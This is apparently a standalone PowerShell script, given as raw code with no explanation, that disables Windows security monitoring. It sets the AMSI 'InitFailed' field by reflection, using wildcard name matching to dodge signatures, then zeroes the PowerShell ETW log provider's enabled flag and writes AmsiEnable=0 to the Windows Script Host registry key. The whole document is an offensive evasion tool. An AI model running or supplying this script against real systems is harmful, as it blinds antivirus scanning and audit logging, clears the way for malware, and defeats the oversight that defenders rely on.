$a = [Ref].Assembly.GetTypes() | Where-Object { $_.Name -like '*iUtils' }
$f = $a.GetFields('NonPublic,Static') | Where-Object { $_.Name -like '*Failed' }
$f.SetValue($null, $true)

$etw = [Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider')
$provider = $etw.GetField('etwProvider', 'NonPublic,Static').GetValue($null)
[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled', 'NonPublic,Instance').SetValue($provider, 0)

Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows Script\Settings' -Name 'AmsiEnable' -Value 0
